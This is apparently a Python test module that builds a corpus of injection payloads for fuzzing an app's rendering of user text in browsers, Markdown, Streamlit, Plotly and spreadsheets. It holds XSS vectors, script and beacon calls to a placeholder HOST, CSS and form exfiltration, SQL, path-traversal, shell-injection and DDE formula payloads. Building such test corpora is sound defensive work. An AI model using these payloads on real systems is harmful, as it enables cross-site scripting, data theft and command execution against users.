"""A corpus of hostile texts, by family: what somebody may put into any field or file.

In a payload ``HIT`` stands for code that reports itself, ``HOST`` for a server that nobody
should ask. Written for this project, after the ways in which browsers, Markdown, Streamlit,
Plotly and spreadsheets are known to read more into a text than its letters.
"""

from collections.abc import Sequence
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """One hostile text and the family that it belongs to."""

    family: str
    text: str


_SCRIPTS = (
    "<script>HIT</script>",
    "<ScRiPt>HIT</sCrIpT>",
    "<script >HIT</script >",
    "<script/x=1>HIT</script>",
    "<script\n>HIT</script\n>",
    "<script src=//HOST/s1></script>",
    '<script src="http://HOST/s2.js" async></script>',
    "<script type=module>HIT</script>",
    "<script type=module src=//HOST/s3.js></script>",
    "<script>import('//HOST/s4.js')</script>",
    "<script>fetch('//HOST/s5')</script>",
    "<script>navigator.sendBeacon('//HOST/s6')</script>",
    "<script>new Image().src='//HOST/s7'</script>",
    "<script>new WebSocket('ws://HOST/s8')</script>",
    "<script>open('//HOST/s9')</script>",
    "<script>top.location='//HOST/s10'</script>",
    "<script>parent.HIT</script>",
    '"><script>HIT</script>',
    "'><script>HIT</script>",
    "</title><script>HIT</script>",
    "</textarea><script>HIT</script>",
    "</style><script>HIT</script>",
    "</script><script>HIT</script>",
    "--><script>HIT</script>",
    "]]><script>HIT</script>",
    "<scr<script>ipt>HIT</scr</script>ipt>",
    "<<script>HIT//<</script>",
    "<noscript><p title='</noscript><img src=x onerror=HIT>'>",
    "<template><script>HIT</script></template>",
)

_HANDLERS = (
    "<img src=x onerror=HIT>",
    "<img src=x onerror='HIT'>",
    '<img src=x onerror="HIT"//',
    "<img/src=x/onerror=HIT>",
    "<IMG SRC=x ONERROR=HIT>",
    "<img\tsrc=x\tonerror=HIT>",
    "<img\nsrc=x\nonerror=HIT>",
    "<img src=x onerror=&#95;&#95;hit&#40;1&#41;>",
    "<img src=x onerror=\\u005f_hit(1)>",
    "<img srcset='x 1x' onerror=HIT>",
    "<image src=x onerror=HIT>",
    "<picture><source srcset=//HOST/h1><img onerror=HIT src=x></picture>",
    "<body onload=HIT>",
    "<body onpageshow=HIT>",
    "<style onload=HIT></style>",
    "<link rel=stylesheet href=//HOST/h2 onerror=HIT>",
    "<iframe onload=HIT></iframe>",
    "<object data=x onerror=HIT></object>",
    "<embed src=x onerror=HIT>",
    "<video src=x onerror=HIT></video>",
    "<video><source onerror=HIT></video>",
    "<audio src=x onerror=HIT autoplay></audio>",
    "<video poster=//HOST/h3></video>",
    "<track src=//HOST/h4>",
    "<input autofocus onfocus=HIT>",
    "<select autofocus onfocus=HIT></select>",
    "<textarea autofocus onfocus=HIT></textarea>",
    "<p tabindex=1 autofocus onfocus=HIT>focus</p>",
    "<p contenteditable autofocus onfocus=HIT>edit</p>",
    "<details open ontoggle=HIT><summary>more</summary></details>",
    "<marquee onstart=HIT>run</marquee>",
    "<b onmouseover=HIT>over</b>",
    "<b onpointerenter=HIT>enter</b>",
    "<b onclick=HIT>click</b>",
    "<button onclick=HIT>press</button>",
    "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=HIT>a</b>",
    "<b style='animation:x' onanimationend=HIT onwebkitanimationend=HIT>a</b>",
    "<b id=p popover onbeforetoggle=HIT>p</b><button popovertarget=p>open</button>",
    "<dialog open onclose=HIT><form method=dialog><button>shut</button></form></dialog>",
    "x' onmouseover='HIT",
    'x" onfocus="HIT" autofocus="',
    "x onload=HIT ",
    "` onerror=HIT `",
)

_ADDRESSES = (
    "javascript:HIT",
    "JaVaScRiPt:HIT",
    "java\tscript:HIT",
    "java\nscript:HIT",
    "\x01javascript:HIT",
    "javascript://%0aHIT",
    "javascript:/*--></title>*/HIT",
    "vbscript:msgbox(1)",
    "<a href=javascript:HIT>go</a>",
    "<a href='java&#115;cript:HIT'>go</a>",
    "<a href='&#x6A;avascript:HIT'>go</a>",
    "<a href='java&Tab;script:HIT'>go</a>",
    "<a href=' javascript:HIT'>go</a>",
    "<a href=//HOST/a1 target=_top>top</a>",
    "<a href=//HOST/a2 target=_blank>new</a>",
    "<a href=//HOST/a3 ping=//HOST/a4>ping</a>",
    "<a href=//HOST/a5 download>take</a>",
    "<area href=javascript:HIT>",
    "<map name=m><area shape=default href=//HOST/a6></map><img usemap=#m src=data:,>",
    "data:text/html,<script>HIT</script>",
    "data:text/html;base64,PHNjcmlwdD5fX2hpdCgxKTwvc2NyaXB0Pg==",
    "<a href='data:text/html,<script>HIT</script>'>data</a>",
    "<iframe src='data:text/html,<script>parent.HIT</script>'></iframe>",
    "<object data='data:text/html,<script>HIT</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=HIT>'>",
    "<script src='data:,HIT'></script>",
    "<link rel=stylesheet href='data:text/css,@import url(//HOST/a7)'>",
    "http://HOST/a8",
    "https://HOST/a9",
    "//HOST/a10",
    "\\\\HOST\\a11",
    "file:///etc/passwd",
    "blob:http://HOST/a12",
    "ftp://HOST/a13",
)

_DRAWINGS = (
    "<svg onload=HIT>",
    "<svg/onload=HIT>",
    "<svg><script>HIT</script></svg>",
    "<svg><script href=//HOST/d1></script></svg>",
    "<svg><script xlink:href=//HOST/d2></script></svg>",
    "<svg><a href=javascript:HIT><text y=20>go</text></a></svg>",
    "<svg><a xlink:href=javascript:HIT><text y=20>go</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:HIT /><text y=20>go</text></a></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s></svg>",
    "<svg><set attributeName=x onbegin=HIT to=1></svg>",
    "<svg><image href=//HOST/d3 /></svg>",
    "<svg><use href=//HOST/d4#x /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=HIT />#x' /></svg>",
    "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
    "<svg><style>*{background:url(//HOST/d5)}</style></svg>",
    "<svg><filter><feImage href=//HOST/d6 /></filter></svg>",
    "<svg><desc><![CDATA[</desc><script>HIT</script>]]></svg>",
    "<svg><title><style><img src=x onerror=HIT></style></title></svg>",
    "<math><mtext><img src=x onerror=HIT></mtext></math>",
    "<math href=javascript:HIT>go</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:HIT>go</maction></math>",
    "<math><mi><mglyph><svg><mtext><style><img src=x onerror=HIT></style></mtext></svg></mglyph>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=HIT></annotation-xml></math>",
    "<math><semantics><mi>x</mi><annotation xlink:href=//HOST/d7>y</annotation></semantics></math>",
)

_HEADS = (
    "<meta http-equiv=refresh content='0;url=//HOST/m1'>",
    "<meta http-equiv=refresh content='0;url=javascript:HIT'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>HIT</script>'>",
    "<META HTTP-EQUIV='REFRESH' CONTENT='0.1; URL=http://HOST/m2'>",
    "<meta http-equiv=set-cookie content='dissent_session=stolen'>",
    '<meta http-equiv=content-security-policy content="default-src *">',
    "<meta name=referrer content=unsafe-url><img src=//HOST/m3>",
    "<base href=//HOST/m4/>",
    "<base href=javascript:HIT//>",
    "<base target=_top>",
    "<link rel=stylesheet href=//HOST/m5>",
    "<link rel=preload as=script href=//HOST/m6>",
    "<link rel=prefetch href=//HOST/m7>",
    "<link rel=preconnect href=//HOST>",
    "<link rel=dns-prefetch href=//HOST>",
    "<link rel=modulepreload href=//HOST/m8>",
    "<link rel=icon href=//HOST/m9>",
    "<link rel=manifest href=//HOST/m10>",
    "<title>Sign in again</title>",
)

_STYLES = (
    "<style>body{display:none}</style>",
    "<style>@import url(//HOST/c1);</style>",
    "<style>@import '//HOST/c2';</style>",
    "<style>*{background:url(//HOST/c3)}</style>",
    "<style>input[value^=a]{background:url(//HOST/c4)}</style>",
    "<style>@font-face{font-family:f;src:url(//HOST/c5)}*{font-family:f}</style>",
    "<style>body::after{content:url(//HOST/c6)}</style>",
    "<style>*{cursor:url(//HOST/c7),auto}</style>",
    "<style>*{background:image-set(url(//HOST/c8) 1x)}</style>",
    "<b style='background:url(//HOST/c9)'>b</b>",
    "<b style=\"background:url('//HOST/c10')\">b</b>",
    "<b style='list-style:url(//HOST/c11);display:list-item'>b</b>",
    "<b style='position:fixed;inset:0;z-index:99999;background:#fff'>cover</b>",
    "<b style='behavior:url(//HOST/c12);width:expression(HIT)'>b</b>",
    "<table background=//HOST/c13><tr><td>t</table>",
    "<body background=//HOST/c14>",
    "}*{background:url(//HOST/c15)}",
)

_FRAMES = (
    "<iframe src=//HOST/f1></iframe>",
    "<iframe src=javascript:parent.HIT></iframe>",
    "<iframe srcdoc='<script>parent.HIT</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.HIT&gt;'></iframe>",
    "<iframe sandbox='allow-scripts allow-top-navigation' src=//HOST/f2></iframe>",
    "<iframe allow='camera *; clipboard-read *' src=//HOST/f3></iframe>",
    "<frameset><frame src=//HOST/f4></frameset>",
    "<object data=//HOST/f5></object>",
    "<object type=text/html data=//HOST/f6></object>",
    "<embed src=//HOST/f7>",
    "<applet code=x archive=//HOST/f8></applet>",
    "<portal src=//HOST/f9></portal>",
    "<fencedframe src=//HOST/f10></fencedframe>",
    "<form action=//HOST/f11><button autofocus>go on</button></form>",
    "<form action=javascript:HIT><button>go on</button></form>",
    "<form method=post action=/leave><button>go on</button></form>",
    "<form id=g action=//HOST/f12></form><button form=g>go on</button>",
    "<form><button formaction=javascript:HIT>go on</button></form>",
    "<form><input type=image src=//HOST/f13 formaction=//HOST/f14></form>",
    "<form><input type=submit formaction=//HOST/f15 formtarget=_top></form>",
    "<form name=body><input name=innerHTML><input id=cookie></form>",
    "<isindex action=//HOST/f16>",
    "<keygen autofocus onfocus=HIT>",
    "<x-frame onfocus=HIT tabindex=1 autofocus>x</x-frame>",
)

_TEMPLATES = (
    "{{7*7}}",
    "{{constructor.constructor('HIT')()}}",
    "${HIT}",
    "`${HIT}`",
    "#{HIT}",
    "<%= HIT %>",
    "{% include 'secrets' %}",
    "{0.__class__.__mro__}",
    "{body}{error}{text}",
    "%s%s%n%(name)s",
    "%{customdata[0]}",
    "%{y}<extra>%{fullData.name}</extra>",
    "{x:.9999f}",
    "';HIT//",
    '";HIT//',
    "\\';HIT//",
    '\\";HIT//',
    "');HIT;//",
    "]});HIT;//",
    '","injected":"1',
    "\u2028HIT\u2029",
    "__proto__",
    "constructor",
    "toString",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/api/labels",
    "%2e%2e%2f%00",
    "'; DROP TABLE labels; --",
    "' OR '1'='1",
    "$(touch x)",
    "| touch x",
)

_MARKDOWN = (
    "[go](javascript:HIT)",
    "[go](java%0ascript:HIT)",
    "[go](//HOST/k1)",
    "[go](http://HOST/k2 'title')",
    "[go](data:text/html,<script>HIT</script>)",
    "![see](http://HOST/k3)",
    "![see](//HOST/k4 'title')",
    "[![see](http://HOST/k5)](http://HOST/k6)",
    "<http://HOST/k7>",
    "<javascript:HIT>",
    "http://HOST/k8 as it is",
    "www.HOST.example/k9",
    "somebody@HOST.example",
    "[go][1]\n\n[1]: http://HOST/k10",
    "![see][2]\n\n[2]: http://HOST/k11",
    "[^1]\n\n[^1]: [go](http://HOST/k12)",
    "# Not a heading",
    "Not a heading\n===",
    "> not a quotation",
    "- not a list",
    "1. not a list",
    "- [ ] not a box",
    "| not | a table |\n|---|---|\n| a | ![t](//HOST/k13) |",
    "    not code",
    "```\nnot code\n```",
    "`not code`",
    "**not bold** __nor this__",
    "*not italic* _nor this_ ~~nor struck~~",
    "***\n---\n___",
    "\\[go](http://HOST/k14)",
    "\\\\[go](http://HOST/k15)",
    "[a\\](b)[go](http://HOST/k16)",
    "<details><summary>s</summary>![t](//HOST/k17)</details>",
    "<!-- not hidden -->",
)

_STREAMLIT = (
    ":material/skull:",
    ":material/../../x:",
    ":streamlit:",
    ":red[not red]",
    ":blue-background[not blue]",
    ":green-badge[no badge]",
    ":rainbow[no rainbow]",
    ":small[not small]",
    ":gray[:material/skull: [go](http://HOST/t1)]",
    ":color[x]{foreground='red' background='url(//HOST/t2)'}",
    ":shortcut[Ctrl+C]",
    ":smile: :tada:",
    "$x^2$",
    "$$\\frac{a}{b}$$",
    "$\\href{javascript:HIT}{go}$",
    "$\\url{http://HOST/t3}$",
    "$\\includegraphics{http://HOST/t4}$",
    "$\\htmlStyle{background:url(//HOST/t5)}{x}$",
    "$\\htmlData{x=1}{\\htmlId{root}{x}}$",
    "$\\def\\a{\\a\\a}\\a$",
    "\\$ \\\\$x\\\\$",
    "<- not an arrow -> -- =>",
)

_ENCODINGS = (
    "&lt;script&gt;HIT&lt;/script&gt;",
    "&#60;script&#62;HIT&#60;/script&#62;",
    "&#x3c;img src=x onerror=HIT&#x3e;",
    "&lt;a href='http://HOST/e1'&gt;go&lt;/a&gt;",
    "&amp;lt;script&amp;gt;HIT",
    "%3Cscript%3EHIT%3C/script%3E",
    "%253Cscript%253EHIT",
    "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
    "\\x3cscript\\x3eHIT\\x3c/script\\x3e",
    "\\74script\\76HIT",
    "+ADw-script+AD4-HIT+ADw-/script+AD4-",
    "\uff1cscript\uff1eHIT\uff1c/script\uff1e",
    "\u02c2script\u02c3HIT\u02c2/script\u02c3",
    "\ufeff<script>HIT</script>",
    "<\u200bscript>HIT</\u200bscript>",
    "<scr\u00adipt>HIT</scr\u00adipt>",
    "\u00a0<img\u00a0src=x\u00a0onerror=HIT>",
    "<img src=x onerror\u3000=HIT>",
    "\u00bcscript\u00beHIT\u00bc/script\u00be",
    "\u202e<script>HIT</script>",
    "\u202egnp.exe\u202c",
    "\u2066\u2067rtl\u2069\u2069",
    "\u200fabc\u200e",
    "\u061c\u202b<b>x</b>\u202c",
    "Z\u0351\u036b\u0343\u0369\u0351\u0343" * 8,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3f4\U000e0067\U000e007f",
    "\ud7ff\ue000\uf8ff\ufffd\uffff",
    "\U000f0000\U0010ffff",
    "\x1b[2J\x1b]0;title\x07",
    "\x7f\x80\x9b2J",
    "\x0b\x0c\x1f\x85",
)

_FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    '=HYPERLINK("http://HOST/x1","go")',
    '=IMPORTXML("http://HOST/x2","//a")',
    '=WEBSERVICE("http://HOST/x3")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\uff1d1+1",
    '="a\n"&"b"',
)

_PLOTLY = (
    "<a href='http://HOST/p1'>go</a>",
    '<a href="//HOST/p2" target="_self">go</a>',
    "<a href='javascript:HIT' target='_self'>go</a>",
    "<b>not bold</b>",
    "<i>not italic</i>",
    "<u>not underlined</u><s>nor struck</s>",
    "not<br>two lines",
    "x<sub>no</sub><sup>no</sup>",
    "<span style='color:red;font-size:99px'>not red</span>",
    "<em>no</em><extra></extra>",
    "%{x}%{y:.3f}%{z|%d}",
    "&nbsp;&times;&#97;&lt;b&gt;",
    "$\\alpha$",
)

_HUGE = (
    "A" * 4_000,
    "<" * 1_500,
    "[" * 800,
    "*_" * 400,
    "<div>" * 300,
    "wide\u3000" * 200,
    "\n" * 200 + "end",
)

FAMILIES = {
    "script elements": _SCRIPTS,
    "event handlers": _HANDLERS,
    "addresses": _ADDRESSES,
    "SVG and MathML": _DRAWINGS,
    "meta, base and link": _HEADS,
    "styles": _STYLES,
    "frames and forms": _FRAMES,
    "templates, strings and paths": _TEMPLATES,
    "Markdown": _MARKDOWN,
    "Streamlit directives": _STREAMLIT,
    "encodings and directions": _ENCODINGS,
    "spreadsheet formulas": _FORMULAS,
    "Plotly markup": _PLOTLY,
    "huge": _HUGE,
}

SURROGATES = ('"\\ud83d"', '"\\ude00\\ud83d"', '"<b>\\udfff"', '"\\ud800\\ud800"', '"x\\udc80"')
"""Halves of characters as JSON writes them; no store and no page can hold one."""

_SWALLOWS = ("<!--", "<textarea", "<title>", "<style", "<noscript", "<template", "]]>", "<frameset")
"""What may hide the text behind it from a browser, so it goes last."""


def make_payloads(host: str) -> tuple[Payload, ...]:
    """Return the corpus, with code that reports itself and a host that listens."""
    return tuple(
        Payload(family, text.replace("HIT", "__hit(1)").replace("HOST", host))
        for family, texts in FAMILIES.items()
        for text in texts
    )


def deal(payloads: Sequence[Payload], hands: int, turn: int = 0, mark: str = " ") -> list[str]:
    """Return so many texts that hold all payloads together.

    Parameters
    ----------
    turn : int
        How far to rotate the payloads, so that two fields of a row hold different ones.
    mark : str
        What stands between two payloads of a text.
    """
    turned = [*payloads[turn % len(payloads) :], *payloads[: turn % len(payloads)]]
    return [
        mark.join(one.text for one in sorted(turned[place::hands], key=_swallows))
        for place in range(hands)
    ]


def _swallows(payload: Payload) -> bool:
    return payload.text.lower().lstrip().startswith(_SWALLOWS)
